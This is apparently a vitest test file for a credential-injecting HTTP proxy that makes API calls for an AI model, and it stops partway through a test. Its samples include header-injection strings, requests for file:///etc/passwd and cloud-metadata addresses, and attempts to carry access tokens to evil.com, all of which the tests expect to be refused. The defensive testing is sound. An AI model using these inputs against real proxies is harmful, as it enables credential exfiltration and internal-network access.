import { afterEach, describe, expect, test } from 'vitest';
import {
  codeOf,
  echo,
  FakeMain,
  headerOf,
  ServiceBench,
  startService,
  textsOf,
} from '../test-support/services.ts';

const bench = new ServiceBench();
const { service, caller } = bench;
afterEach(bench.close);

describe('a call', () => {
  test('carries the credential, which the model never sees, and tells what came back', async () => {
    const { port, received } = await service((_request, response) => {
      response.writeHead(200, {
        'content-type': 'application/json',
        'set-cookie': 'session=hidden',
        'x-internal': 'hidden',
        etag: '"1"',
      });
      response.end('{"items":[]}');
    });
    const from = caller();
    const result = await from.call({ target: `http://api.example.com:${port}/v1/items?x=1` });
    expect(textsOf(result)).toEqual(['[api_call status=200]', '{"items":[]}']);
    expect(result.isError).toBeUndefined();
    expect(received[0]).toMatchObject({
      method: 'GET',
      url: '/v1/items?x=1',
      host: `api.example.com:${port}`,
    });
    expect(headerOf(received[0]!, 'authorization')).toBe('Bearer secret-token-1');
    expect(result._meta).toMatchObject({
      'dev.appstrate/upstream': {
        status: 200,
        headers: { 'content-type': 'application/json', etag: '"1"' },
        finalUrl: `http://api.example.com:${port}/v1/items?x=1`,
      },
      'dev.appstrate/token-budget': { decision: 'inline', reason: 'under_inline_cap', estimatedTokens: 4 },
    });
    expect(JSON.stringify(result)).not.toMatch(/hidden|secret-token/);
    expect(from.main.outbound).toMatchObject([
      {
        tool: 'acme_service__api_call',
        integrationId: '@acme/service',
        connectionId: 'c1',
        method: 'GET',
        url: `http://api.example.com:${port}/v1/items`,
        status: 200,
        rule: 'http://*.example.com:*/**',
        bytesReceived: 12,
      },
    ]);
  });

  test('a service’s refusal keeps its status and has no code', async () => {
    const { port } = await service((_request, response) => {
      response.writeHead(422, { 'content-type': 'application/problem+json' }).end('{"why":"x"}');
    });
    const result = await caller().call({ target: `http://api.example.com:${port}/` });
    expect(result.isError).toBe(true);
    expect(textsOf(result)).toEqual(['[api_call status=422]', '{"why":"x"}']);
    expect(codeOf(result)).toBe(422);
  });

  test('an answer without content is no file', async () => {
    const { port } = await service((_request, response) => void response.writeHead(204).end());
    const result = await caller().call({ target: `http://api.example.com:${port}/`, method: 'delete' });
    expect(textsOf(result)).toEqual(['[api_call status=204]']);
  });

  test('HEAD of something compressed is an answer too', async () => {
    const { port } = await service((_request, response) => {
      response.writeHead(200, { 'content-encoding': 'gzip', 'content-type': 'text/plain' }).end();
    });
    const result = await caller().call({ target: `http://api.example.com:${port}/`, method: 'HEAD' });
    expect(textsOf(result)).toEqual(['[api_call status=200]']);
  });

  test('the model’s own Authorization gives way, or stands where the manifest says so', async () => {
    const { port, received } = await service((_request, response) => void response.writeHead(401).end());
    const call = { target: `http://api.example.com:${port}/`, headers: { AUTHORIZATION: 'Bearer mine' } };
    const from = caller({ auth: { canRefresh: false } });
    await from.call(call);
    const delivery = { header: 'Authorization', prefix: 'Bearer ', value: '{$credential.access_token}' };
    const overriding = caller({ auth: { delivery: { ...delivery, allowsOverride: true } } });
    await overriding.call(call);
    expect(received.map((request) => headerOf(request, 'authorization'))).toEqual([
      'Bearer secret-token-1',
      'Bearer mine',
    ]);
    // Not ours to mend: the connection is not asked for another.
    expect(overriding.main.asked).toHaveLength(1);
  });

  test('a secret is never trimmed or rewritten', async () => {
    const { port, received } = await service(echo);
    const main = new FakeMain();
    main.answer = () => ({ fields: { access_token: 'basic ally_a_key_123' }, publicFields: [] });
    const delivery = {
      header: 'X-Key',
      prefix: '',
      value: '{$credential.access_token}',
      allowsOverride: false,
    };
    await caller({ main, auth: { delivery } }).call({ target: `http://api.example.com:${port}/` });
    expect(headerOf(received[0]!, 'x-key')).toBe('basic ally_a_key_123');
  });
});

describe('arguments', () => {
  const GIVEN = { target: 'http://api.example.com/' };
  test.each<[string, Record<string, unknown>, RegExp]>([
    ['no target', {}, /'target' is required/],
    ['a blank target', { target: '  ' }, /'target' is required/],
    ['a target of another type', { target: 5 }, /'target' is required/],
    ['a body on GET', { ...GIVEN, body: null }, /GET request has no body/],
    ['a body on HEAD', { ...GIVEN, method: 'head', body: 'x' }, /HEAD request has no body/],
    ['a method with a line break', { ...GIVEN, method: 'GET\r\nX: y' }, /'method' must be/],
    [
      'control headers',
      { ...GIVEN, headers: { 'X-Target': 'a', 'x-STREAM-response': 'b' } },
      /X-Target, x-STREAM-response/,
    ],
    ['a header with a line break', { ...GIVEN, headers: { a: 'b\r\nc: d' } }, /line break/],
    ['a header’s name with a space', { ...GIVEN, headers: { 'a b': 'c' } }, /no name of a header/],
    ['headers that are no texts', { ...GIVEN, headers: { a: 1 } }, /'headers' must be/],
    ['a number as body', { ...GIVEN, method: 'POST', body: 5 }, /'body' must be/],
    [
      'base64 with a space',
      { ...GIVEN, method: 'POST', body: { fromBytes: 'YQ= =', encoding: 'base64' } },
      /must be base64/,
    ],
    [
      'base64 of the URL kind',
      { ...GIVEN, method: 'POST', body: { fromBytes: '_-8=', encoding: 'base64' } },
      /must be base64/,
    ],
    [
      'base64 without padding',
      { ...GIVEN, method: 'POST', body: { fromBytes: 'YQ', encoding: 'base64' } },
      /must be base64/,
    ],
    [
      'base64 that means something else as well',
      { ...GIVEN, method: 'POST', body: { fromBytes: 'YR==', encoding: 'base64' } },
      /must be base64/,
    ],
    [
      'bytes without their encoding',
      { ...GIVEN, method: 'POST', body: { fromBytes: 'YQ==' } },
      /encoding: 'base64'/,
    ],
    ['a file nobody has read', { ...GIVEN, method: 'POST', body: { fromFile: 'x' } }, /did not get here/],
    [
      'placeholders in bytes',
      { ...GIVEN, method: 'POST', substituteBody: true, body: { fromBytes: 'YQ==', encoding: 'base64' } },
      /needs a text/,
    ],
    ['no parts', { ...GIVEN, method: 'POST', body: { multipart: [] } }, /1 to 256 parts/],
    [
      'too many parts',
      {
        ...GIVEN,
        method: 'POST',
        body: { multipart: Array.from({ length: 257 }, () => ({ name: 'a', value: '' })) },
      },
      /1 to 256 parts/,
    ],
    [
      'a part without a name',
      { ...GIVEN, method: 'POST', body: { multipart: [{ value: 'x' }] } },
      /name of part 1/,
    ],
    [
      'a part of a file to be read',
      { ...GIVEN, method: 'POST', body: { multipart: [{ name: 'a', fromFile: 'x' }] } },
      /unknown "fromFile"/,
    ],
    [
      'a filename that begins a header',
      {
        ...GIVEN,
        method: 'POST',
        body: { multipart: [{ name: 'a', filename: 'x\r\nY: z', bytes: '', encoding: 'base64' }] },
      },
      /line break/,
    ],
    ['an argument nobody knows', { ...GIVEN, timeout: 5 }, /no argument "timeout"/],
  ])('%s', async (_name, input, message) => {
    const from = caller({ resolve: () => Promise.reject(new Error('must not get here')) });
    const result = await from.call(input);
    expect(result.isError).toBe(true);
    expect(codeOf(result)).toBe('no code');
    expect(textsOf(result)[1]).toMatch(message);
    expect(from.main.asked).toEqual([]);
  });

  test('bytes at the cap go, one more does not, and parts count together', async () => {
    const { port, received } = await service(echo);
    const from = caller({ limits: { maxRequestBodyBytes: 1000 } });
    const send = (body: unknown) =>
      from.call({ target: `http://api.example.com:${port}/`, method: 'POST', body });
    const base64 = (length: number) => Buffer.alloc(length, 'x').toString('base64');
    expect(codeOf(await send({ fromBytes: base64(1000), encoding: 'base64' }))).toBe(200);
    const refused = await send({ fromBytes: base64(1001), encoding: 'base64' });
    expect(refused.structuredContent).toEqual({
      error: {
        code: 'PAYLOAD_TOO_LARGE',
        scope: 'request_body',
        limit: 1000,
        actual: 1001,
        envVar: 'SIDECAR_MAX_REQUEST_BODY_BYTES',
      },
    });
    const part = { name: 'f', filename: 'f', bytes: base64(501), encoding: 'base64' };
    expect(textsOf(await send({ multipart: [part, part] }))[1]).toMatch(/1002 bytes/);
    expect(received).toHaveLength(1);
    expect(received[0]?.body.length).toBe(1000);
  });
});

describe('bodies', () => {
  test('of each form arrive as they were meant', async () => {
    const { port, received } = await service(echo);
    const from = caller();
    const send = (body: unknown, headers?: Record<string, string>) =>
      from.call({
        target: `http://api.example.com:${port}/`,
        method: 'POST',
        body,
        ...(headers && { headers }),
      });
    const binary = Buffer.from([0, 255, 254, 10, 13, 128]);
    await send('ä text');
    await send({ fromBytes: binary.toString('base64'), encoding: 'base64' });
    await send({ a: [1, 'ü'] });
    await send([1]);
    await send({ a: 1 }, { 'Content-Type': 'application/vnd.x+json' });
    await send(null);
    // Half a character is none; what is sent is valid all the same.
    await send('half \uD83D');
    expect(received.map(({ body }) => body.toString('utf8'))).toEqual([
      'ä text',
      binary.toString('utf8'),
      '{"a":[1,"ü"]}',
      '[1]',
      '{"a":1}',
      '',
      'half \uFFFD',
    ]);
    expect(received[1]?.body.equals(binary)).toBe(true);
    expect(received.map((request) => headerOf(request, 'content-type'))).toEqual([
      undefined,
      undefined,
      'application/json',
      'application/json',
      'application/vnd.x+json',
      undefined,
      undefined,
    ]);
  });

  test('multipart is what a browser would send', async () => {
    const { port, received } = await service(echo);
    const file = Buffer.from([1, 2, 13, 10, 255]);
    await caller().call({
      target: `http://api.example.com:${port}/`,
      method: 'POST',
      headers: { 'content-type': 'multipart/form-data; boundary=wrong' },
      body: {
        multipart: [
          { name: 'say "hi"', value: 'line\nbreak' },
          { name: 'file', filename: 'ü.bin', bytes: file.toString('base64'), encoding: 'base64' },
        ],
      },
    });
    const request = received[0]!;
    const form = await new Response(request.body, {
      headers: { 'content-type': headerOf(request, 'content-type') as string },
    }).formData();
    expect(form.get('say "hi"')).toBe('line\nbreak');
    const got = form.get('file') as File;
    expect({ name: got.name, type: got.type, bytes: Buffer.from(await got.arrayBuffer()) }).toEqual({
      name: 'ü.bin',
      type: 'application/octet-stream',
      bytes: file,
    });
  });

  test('headers of the connection are ours to write', async () => {
    const { port, received } = await service(echo);
    await caller().call({
      target: `http://api.example.com:${port}/`,
      method: 'POST',
      headers: {
        Host: 'evil.com',
        'Content-Length': '0',
        'Transfer-Encoding': 'chunked',
        Connection: 'close, authorization',
      },
      body: 'hello',
    });
    expect(received[0]).toMatchObject({ host: `api.example.com:${port}`, body: Buffer.from('hello') });
    expect(headerOf(received[0]!, 'authorization')).toBeDefined();
  });
});

describe('placeholders', () => {
  const main = () => {
    const fake = new FakeMain();
    fake.answer = () => ({
      fields: { access_token: 'secret-token-1', bot: 'bot/"secret"\n', account: 'acme' },
      publicFields: ['account'],
    });
    return fake;
  };

  test('are filled in address, headers and body, and never come back to the model', async () => {
    const { port, received } = await service(({ url, body, headers }, response) => {
      response.setHeader('content-type', 'application/json');
      response.setHeader('location', url);
      response.end(
        JSON.stringify({ url, body: body.toString(), auth: headers['authorization'], x: headers['x-a'] }),
      );
    });
    const from = caller({ main: main() });
    const result = await from.call({
      target: `http://api.example.com:${port}/{{account}}/{{access_token}}/x`,
      method: 'POST',
      headers: { 'X-A': 'Key {{ __appstrate_credential_proxy_token__ }}' },
      body: { token: '{{bot}}', note: 'plain' },
      substituteBody: true,
    });
    expect(received[0]).toMatchObject({ url: '/acme/secret-token-1/x' });
    expect(headerOf(received[0]!, 'x-a')).toBe('Key Bearer secret-token-1');
    expect(JSON.parse(received[0]!.body.toString())).toEqual({ token: 'bot/"secret"\n', note: 'plain' });
    const shown = JSON.stringify(result);
    expect(shown).not.toMatch(/secret-token|secret\\/);
    expect(shown).toContain('/acme/{{access_token}}/x');
    expect(JSON.stringify(from.main.outbound)).not.toContain('secret');
  });

  test('stand in values only: names of headers, of members, of parts and of files are what they are', async () => {
    const { port, received } = await service(echo);
    const from = caller({ main: main() });
    const target = `http://api.example.com:${port}/`;
    const send = (body: unknown) => from.call({ target, method: 'POST', body, substituteBody: true });
    expect(codeOf(await send({ '{{account}}': ['{{account}}', { deep: '{{account}}' }], n: 1 }))).toBe(200);
    expect(JSON.parse(received[0]!.body.toString())).toEqual({
      '{{account}}': ['acme', { deep: 'acme' }],
      n: 1,
    });
    const bytes = Buffer.from('{{account}}').toString('base64');
    await send({
      multipart: [
        { name: '{{account}}', value: '{{account}}' },
        { name: 'file', filename: '{{account}}.txt', bytes, encoding: 'base64' },
      ],
    });
    const parts = received[1]!.body.toString();
    expect(parts).toContain('name="{{account}}"\r\n\r\nacme\r\n');
    expect(parts).toMatch(/filename="\{\{account\}\}\.txt"\r\n[^]*\r\n\r\n\{\{account\}\}\r\n/);
    expect(textsOf(await from.call({ target, headers: { '{{account}}': 'x' } }))[1]).toMatch(
      /no name of a header/,
    );
    expect(textsOf(await from.call({ target, method: '{{account}}' }))[1]).toMatch(/'method' must be/);
    expect(received).toHaveLength(2);
  });

  test('in a body are left alone unless they are asked for', async () => {
    const { port, received } = await service(echo);
    await caller().call({
      target: `http://api.example.com:${port}/`,
      method: 'POST',
      body: '{{access_token}}',
    });
    expect(received[0]?.body.toString()).toBe('{{access_token}}');
  });

  test('bring no line of their own: neither a header nor a second request', async () => {
    const { port, received } = await service(echo);
    const fake = new FakeMain();
    const value = 'x HTTP/1.1\r\nHost: evil.com\r\nX-Evil: 1\r\n\r\nGET /second';
    fake.answer = () => ({ fields: { access_token: 'secret-token-1', line: value }, publicFields: ['line'] });
    const from = caller({ main: fake });
    const start = `http://api.example.com:${port}`;
    const refused = await from.call({ target: `${start}/`, headers: { 'X-A': '{{line}}' } });
    expect(textsOf(refused)[1]).toMatch(/line break/);
    for (const path of ['{{line}}', '?q={{line}}', 'a\r\nX-Evil: 1', '%0d%0aX-Evil:1', 'a\tb'])
      expect(codeOf(await from.call({ target: `${start}/${path}` }))).toBe('unauthorized_target');
    expect(received).toEqual([]);
  });

  test.each([
    { target: 'http://api.example.com/{{nope}}' },
    { target: 'http://api.example.com/', headers: { a: '{{nope}}' } },
    { target: 'http://api.example.com/', method: 'POST', body: ['{{nope}}'], substituteBody: true },
  ])('that nothing fills are refused: %j', async (input) => {
    const result = await caller().call(input);
    expect(codeOf(result)).toBe('no code');
    expect(textsOf(result)[1]).toContain('{{nope}}');
  });

  test('a forgotten space after the scheme is put in', async () => {
    const { port, received } = await service(echo);
    const target = `http://api.example.com:${port}/`;
    const headers = { authorization: 'Bearer{{access_token}}' };
    await caller().call({ target, headers }, { meta: { 'slipway/call': { credential: 'none' } } });
    expect(headerOf(received[0]!, 'authorization')).toBe('Bearer secret-token-1');
  });

  test.each([
    { target: 'http://evil.com/?t={{access_token}}' },
    { target: 'http://evil.com/', headers: { a: '{{access_token}}' } },
    { target: 'http://evil.com/', headers: { a: '{{__appstrate_credential_proxy_token__}}' } },
    { target: 'http://evil.com/', method: 'POST', body: { a: ['{{access_token}}'] }, substituteBody: true },
    { target: 'http://{{access_token}}.evil.com/' },
    {
      target: 'http://evil.com/',
      method: 'POST',
      body: { multipart: [{ name: 'a', value: '{{access_token}}' }] },
      substituteBody: true,
    },
  ])('never carry a secret where the list does not confine it: %j', async (input) => {
    for (const auth of [
      { authorizedUris: [], allowsAllUris: true },
      { authorizedUris: ['**'], allowsAllUris: false },
      { authorizedUris: ['http://*/**'], allowsAllUris: true },
    ]) {
      const from = caller({ auth });
      const result = await from.call(input);
      expect(codeOf(result)).toBe('credential_exfiltration_refused');
      expect(JSON.stringify([result, from.main.outbound])).not.toContain('secret-token');
    }
  });
});

describe('targets', () => {
  test.each([
    ['http://evil.com/', 'unauthorized_target'],
    ['http://api.example.com@evil.com/', 'unauthorized_target'],
    ['file:///etc/passwd', 'unauthorized_target'],
  ])('%s: %s', async (target, code) => {
    const from = caller();
    const result = await from.call({ target });
    expect(codeOf(result)).toBe(code);
    expect(textsOf(result)[1]).toContain('Allowed: http://*.example.com:*/**');
    expect(from.main.outbound).toMatchObject([{ status: 0, code }]);
  });

  test('a name that resolves to a private address is blocked, one that resolves to none is said to be so', async () => {
    const call = { target: 'http://api.example.com/' };
    expect(codeOf(await caller({ resolve: async () => ['10.0.0.1'] }).call(call))).toBe('blocked_target');
    const unknown = () => Promise.reject(Object.assign(new Error('x'), { code: 'ENOTFOUND' }));
    expect(codeOf(await caller({ resolve: unknown }).call(call))).toBe('upstream_unresolvable');
  });

  test('a name that changes between two look-ups leads to where it was checked', async () => {
    const { port, received } = await service(echo);
    let lookups = 0;
    const from = caller({ resolve: async () => (++lookups === 1 ? ['192.0.78.24'] : ['127.0.0.1']) });
    const target = `http://rebinds.example.com:${port}/`;
    expect(codeOf(await from.call({ target }))).toBe(200);
    // The connection that was checked is still there; a new one is looked up again, and refused.
    expect(codeOf(await caller({ resolve: async () => ['127.0.0.1'] }).call({ target }))).toBe(
      'blocked_target',
    );
    expect(received).toHaveLength(1);
  });

  test('a host that its author names may be private, and a connection to it serves nobody else', async () => {
    const { port } = await service(echo);
    const named = caller({ auth: { authorizedUris: [`http://127.0.0.1:${port}/**`] } });
    expect(codeOf(await named.call({ target: `http://127.0.0.1:${port}/` }))).toBe(200);
    const wide = caller({ auth: { authorizedUris: ['http://**:*/**'] } });
    expect(codeOf(await wide.call({ target: `http://127.0.0.1:${port}/` }))).toBe('blocked_target');
  });

  test('nobody there', async () => {
    const { port, [Symbol.asyncDispose]: close } = await startService(echo);
    await close();
    const result = await caller().call({ target: `http://api.example.com:${port}/` });
    expect(codeOf(result)).toBe('upstream_unreachable');
    expect(textsOf(result)[1]).toContain('ECONNREFUSED (api.example.com)');
  });
});

describe('redirects', () => {
  const redirecting = (routes: Record<string, [status: number, location: string]>) =>
    service(({ method, url, body }, response) => {
      const [status, location] = routes[url] ?? [];
      if (status !== undefined) response.writeHead(status, { location }).end('moved');
      else {
        response.setHeader('content-type', 'text/plain');
        response.end(`${method} ${url} ${body.toString()}`);
      }
    });

  test.each([
    [301, 'POST', 'GET /end '],
    [302, 'POST', 'GET /end '],
    [303, 'POST', 'GET /end '],
    [303, 'PUT', 'GET /end '],
    [301, 'PUT', 'PUT /end data'],
    [307, 'POST', 'POST /end data'],
    [308, 'PATCH', 'PATCH /end data'],
  ])('%i after %s', async (status, method, seen) => {
    const { port, received } = await redirecting({ '/a': [status, '/end'] });
    const result = await caller().call({
      target: `http://api.example.com:${port}/a`,
      method,
      body: 'data',
      headers: { 'content-type': 'text/x' },
    });
    expect(textsOf(result)[1]).toBe(seen);
    expect(headerOf(received[1]!, 'content-type')).toBe(seen.startsWith('GET') ? undefined : 'text/x');
    expect(result._meta).toMatchObject({
      'dev.appstrate/upstream': { finalUrl: `http://api.example.com:${port}/end` },
    });
  });

  test('out of the list are refused, wherever the hop is', async () => {
    const { port, received } = await redirecting({ '/a': [302, '/b'], '/b': [302, 'http://evil.com/x'] });
    const from = caller();
    const result = await from.call({ target: `http://api.example.com:${port}/a` });
    expect(codeOf(result)).toBe('unauthorized_target');
    expect(textsOf(result)[1]).toContain('evil.com');
    expect(received.map(({ url }) => url)).toEqual(['/a', '/b']);
  });

  test.each([
    ['http://169.254.169.254/latest', 'blocked_target'],
    ['http://localhost/', 'blocked_target'],
    ['http://[::ffff:10.0.0.1]/', 'blocked_target'],
    ['http://sidecar/', 'blocked_target'],
    ['file:///etc/passwd', 'blocked_target'],
    ['http://inside.example.net/', 'blocked_target'],
    ['http://nowhere.example.net/', 'upstream_unresolvable'],
  ])('to %s end in %s, also where every address is allowed', async (location, code) => {
    const { port } = await redirecting({ '/a': [307, location] });
    const resolve = async (host: string) => {
      if (host === 'nowhere.example.net') throw new Error('ENOTFOUND');
      return host === 'inside.example.net' ? ['192.168.1.1'] : ['192.0.78.24'];
    };
    const from = caller({ resolve, auth: { authorizedUris: [], allowsAllUris: true } });
    expect(codeOf(await from.call({ target: `http://api.example.com:${port}/a` }))).toBe(code);
  });

  test('of a private host that was named lead nowhere private, not even back', async () => {
    const { port } = await redirecting({ '/a': [302, '/b'] });
    const from = caller({ auth: { authorizedUris: [`http://127.0.0.1:${port}/**`] } });
    expect(codeOf(await from.call({ target: `http://127.0.0.1:${port}/a` }))).toBe('blocked_target');
  });

  test('in a circle end', async () => {
    const { port, received } = await redirecting({ '/a': [302, '/b'], '/b': [302, '/a'] });
    const result = await caller().call({ target: `http://api.example.com:${port}/a` });
    expect(codeOf(result)).toBe('upstream_unreachable');
    expect(received).toHaveLength(11);
  });

  test('without a place are answers', async () => {
    const { port } = await service(
      (_request, response) => void response.writeHead(308, { range: 'bytes=0-9' }).end(),
    );
    const result = await caller().call({ target: `http://api.example.com:${port}/` });
    expect(result._meta).toMatchObject({
      'dev.appstrate/upstream': { status: 308, headers: { range: 'bytes=0-9' } },
    });
    expect(result.isError).toBeUndefined();
  });

  test('within the list keep the credential; where anything is allowed it stays with its origin', async () => {
    const { port, received } = await redirecting({});
    const first = await redirecting({
      '/in': [302, `http://cdn.example.com:${port}/x`],
      '/body': [307, `http://other.net:${port}/x`],
    });
    const start = `http://api.example.com:${first.port}`;
    await caller().call({ target: `${start}/in` });
    const main = new FakeMain();
    const wide = caller({ main, auth: { authorizedUris: [], allowsAllUris: true } });
    await wide.call({ target: `${start}/in`, headers: { cookie: 'mine=1', 'x-kept': 'y' } });
    expect(received.map((request) => headerOf(request, 'authorization'))).toEqual([
      'Bearer secret-token-1',
      undefined,
    ]);
    expect(headerOf(received[1]!, 'cookie')).toBeUndefined();
    expect(headerOf(received[1]!, 'x-kept')).toBe('y');
    // A body is not handed to a stranger: the model sees where it would go.
    const left = await wide.call({ target: `${start}/body`, method: 'POST', body: 'data' });
    expect(left._meta).toMatchObject({
      'dev.appstrate/upstream': { status: 307, headers: { location: `http://other.net:${port}/x` } },
    });
    expect(received).toHaveLength(2);
  });

  test('that drop a body drop the secret in it, and may lead to any host then', async () => {
    const elsewhere = await redirecting({});
    const away = `http://other.net:${elsewhere.port}/x`;
    const first = await redirecting({ '/see': [303, away], '/again': [307, away] });
    const from = caller({ auth: { authorizedUris: ['http://*.example.com:*/**', 'http://**:*/**'] } });
    const post = (path: string) =>
      from.call({
        target: `http://api.example.com:${first.port}${path}`,
        method: 'POST',
        body: 'token={{access_token}}',
        substituteBody: true,
      });
    expect(codeOf(await post('/again'))).toBe('credential_exfiltration_refused');
    expect(elsewhere.received).toEqual([]);
    expect(textsOf(await post('/see'))[1]).toBe('GET /x ');
    expect(elsewhere.received[0]?.rawHeaders.join()).not.toContain('secret-token');
  });

  test('never take a secret out of where it may go', async () => {
    const { port, received } = await redirecting({});
    const first = await redirecting({ '/in': [307, `http://other.net:${port}/x`] });
    const from = caller({ auth: { authorizedUris: ['http://*.example.com:*/**', 'http://**:*/**'] } });
    const result = await from.call({
      target: `http://api.example.com:${first.port}/in`,
      headers: { 'x-token': '{{access_token}}' },
    });
    expect(codeOf(result)).toBe('credential_exfiltration_refused');
    expect(received).toEqual([]);
  });
});

describe('cookies', () => {
  const sessions = () =>
    service(({ url, headers }, response) => {
      if (url === '/login')
        response
          .writeHead(302, { location: '/next', 'set-cookie': ['a=1; Path=/', 'gone=1; Max-Age=0'] })
          .end();
      else
        response
          .writeHead(200, { 'content-type': 'text/plain', 'set-cookie': 'b=2; HttpOnly' })
          .end(headers['cookie'] ?? 'none');
    });

  test('of every hop are kept for the connection and merged with the model’s own', async () => {
    const { port } = await sessions();
    const from = caller();
    const start = `http://api.example.com:${port}`;
    expect(textsOf(await from.call({ target: `${start}/login` }))[1]).toBe('a=1');
    expect(textsOf(await from.call({ target: `${start}/x`, headers: { Cookie: 'mine=3; a=9' } }))[1]).toBe(
      'a=1; b=2; mine=3',
    );
    expect(textsOf(await from.call({ target: `http://other.example.com:${port}/x` }))[1]).toBe('none');
  });

  test('go with a redirect to their own host only, the model’s own to where the list leads', async () => {
    const seen: [string, string | undefined][] = [];
    const { port } = await service(({ url, host, headers }, response) => {
      seen.push([host.split(':')[0] ?? '', headers['cookie']]);
      if (url === '/end') return void response.end();
      const next = url === '/a' ? `http://other.example.com:${port}/b` : `http://api.example.com:${port}/end`;
      response.writeHead(302, { location: next, 'set-cookie': `from=${url.slice(1)}` }).end();
    });
    await caller().call({ target: `http://api.example.com:${port}/a`, headers: { Cookie: 'mine=1' } });
    expect(seen).toEqual([
      ['api.example.com', 'mine=1'],
      ['other.example.com', 'mine=1'],
      ['api.example.com', 'from=a; mine=1'],
    ]);
    seen.length = 0;
    const anywhere = caller({ auth: { authorizedUris: [], allowsAllUris: true } });
    await anywhere.call({ target: `http://api.example.com:${port}/a`, headers: { Cookie: 'mine=1' } });
    expect(seen.map(([, cookie]) => cookie)).toEqual(['mine=1', undefined, 'from=a']);
  });

  test('of two connections do not mix', async () => {
    const { port } = await sessions();
    const from = caller({
      integration: {
        connections: [
          { id: 'c1', authKey: 'oauth', label: 'Work' },
          { id: 'c2', authKey: 'oauth', label: 'Home' },
        ],
      },
    });
    const target = `http://api.example.com:${port}/x`;
    await from.call({ target, connection: 'Work' });
    expect(textsOf(await from.call({ target, connection: 'Home' }))[1]).toBe('none');
    expect(textsOf(await from.call({ target, connection: 'Work' }))[1]).toBe('b=2');
  });
});

describe('a credential', () => {
  const guarded = () =>
    service(({ headers, body }, response) => {
      const isFresh = headers['authorization'] === 'Bearer fresh-token-2';
      response.writeHead(isFresh ? 200 : 401, { 'content-type': 'text/plain' }).end(body);
    });
  const refreshing = () => {
    const main = new FakeMain();
    main.answer = (_id, reason) => ({
      fields: { access_token: reason === 'refresh' ? 'fresh-token-2' : 'stale-token-1' },
      publicFields: [],
    });
    return main;
  };

  test('that is refused is replaced once, and the same body goes again', async () => {
    const { port, received } = await guarded();
    const from = caller({ main: refreshing() });
    const send = () => from.call({ target: `http://api.example.com:${port}/`, method: 'POST', body: 'data' });
    expect(textsOf(await send())).toEqual(['[api_call status=200]', 'data']);
    expect(textsOf(await send())).toEqual(['[api_call status=200]', 'data']);
    expect(from.main.asked.map(({ reason }) => reason)).toEqual(['initial', 'refresh']);
    expect(received).toHaveLength(3);
  });

  test('that three calls find refused at once is replaced once', async () => {
    const { port } = await guarded();
    const from = caller({ main: refreshing() });
    const calls = [1, 2, 3].map(() => from.call({ target: `http://api.example.com:${port}/` }));
    expect((await Promise.all(calls)).map(codeOf)).toEqual([200, 200, 200]);
    expect(from.main.asked.filter(({ reason }) => reason === 'refresh')).toHaveLength(1);
  });

  test('that stays refused is a 401, and is not asked for again', async () => {
    const { port, received } = await service((_request, response) => void response.writeHead(401).end());
    const from = caller({ main: refreshing() });
    for (let count = 0; count < 3; count += 1) {
      expect(codeOf(await from.call({ target: `http://api.example.com:${port}/` }))).toBe(401);
    }
    expect(from.main.asked.filter(({ reason }) => reason === 'refresh')).toHaveLength(1);
    expect(received).toHaveLength(4);
  });

  test('that stays refused is asked for again once its connection was signed in to', async () => {
    const { port } = await service(({ headers }, response) => {
      response.writeHead(headers['authorization'] === 'Bearer newest-token' ? 200 : 401).end();
    });
    const main = new FakeMain();
    const tokens = ['stale-token', 'refused-token', 'signed-in-token', 'newest-token'];
    let given = 0;
    main.answer = (_id, reason) => {
      if (reason === 'refresh') given += 1;
      return { fields: { access_token: tokens[given] ?? '' }, publicFields: [] };
    };
    const from = caller({ main });
    const call = async () => codeOf(await from.call({ target: `http://api.example.com:${port}/` }));
    expect([await call(), await call()]).toEqual([401, 401]);
    given += 1;
    main.change('c1');
    expect(await call()).toBe(200);
    expect(main.asked.filter(({ reason }) => reason === 'refresh')).toHaveLength(2);
  });

  test('that cannot be replaced, or only by itself, leaves the 401 as it is', async () => {
    const { port, received } = await service(
      (_request, response) => void response.writeHead(401, { 'content-type': 'text/plain' }).end('why'),
    );
    const dead = new FakeMain();
    dead.answer = (_id, reason) => {
      if (reason === 'refresh') throw FakeMain.problem('Revoked.');
      return { fields: { access_token: 'stale-token-1' }, publicFields: [] };
    };
    const same = new FakeMain();
    for (const main of [dead, same]) {
      expect(textsOf(await caller({ main }).call({ target: `http://api.example.com:${port}/` }))).toEqual([
        '[api_call status=401]',
        'why',
      ]);
    }
    expect(received).toHaveLength(2);
  });

  test('403 asks for nothing', async () => {
    const { port } = await service((_request, response) => void response.writeHead(403).end());
    const from = caller();
    expect(codeOf(await from.call({ target: `http://api.example.com:${port}/` }))).toBe(403);
    expect(from.main.asked).toHaveLength(1);
  });

  test('that there is none of says so, and nothing is sent', async () => {
    const main = new FakeMain();
    main.answer = () => {
      throw FakeMain.problem('The connection "Work" was revoked.');
    };
    const from = caller({ main });
    const result = await from.call({ target: 'http://api.example.com/' });
    expect(codeOf(result)).toBe('credential_unusable');
    expect(textsOf(result)[1]).toContain('The connection "Work" was revoked.');
  });

  test('is kept until it ends, or until its connection changes', async () => {
    const { port } = await service(echo);
    const main = new FakeMain();
    let expiresAt = Date.now() + 3_600_000;
    main.answer = () => ({ fields: { access_token: 'secret-token-1' }, publicFields: [], expiresAt });
    const from = caller({ main });
    const send = () => from.call({ target: `http://api.example.com:${port}/` });
    await send();
    await send();
    expect(main.asked).toHaveLength(1);
    main.change('c1');
    expiresAt = Date.now() + 1000;
    await send();
    await send();
    expect(main.asked).toHaveLength(3);
  });

  test('that a header cannot hold is unusable', async () => {
    const main = new FakeMain();
    main.answer = () => ({ fields: { access_token: 'secret\r\nX-Evil: 1' }, publicFields: [] });
    const result = await caller({ main }).call({ target: 'http://api.example.com/' });
    expect(codeOf(result)).toBe('credential_unusable');
    expect(JSON.stringify(result)).not.toContain('secret\\r');
  });
});

describe('several connections', () => {
  const connections = [
    { id: 'c1', authKey: 'oauth', label: 'Work', account: 'me@work.example' },
    { id: 'c2', authKey: 'oauth', label: 'Home' },
    { id: 'c3', authKey: 'other', label: 'Third' },
  ];

  test('are told apart by a required argument that goes no further', async () => {
    const { port, received } = await service(echo);
    const main = new FakeMain();
    main.answer = (connectionId) => ({
      fields: { access_token: `token-of-${connectionId}` },
      publicFields: [],
    });
    const from = caller({ main, integration: { connections } });
    expect(from.tool.definition.inputSchema).toMatchObject({
      required: ['target', 'connection'],
      properties: {
        connection: {
          enum: ['Work', 'Home'],
          description: expect.stringContaining('me@work.example') as string,
        },
      },
    });
    const target = `http://api.example.com:${port}/`;
    await from.call({ target, connection: 'Home' });
    expect(headerOf(received[0]!, 'authorization')).toBe('Bearer token-of-c2');
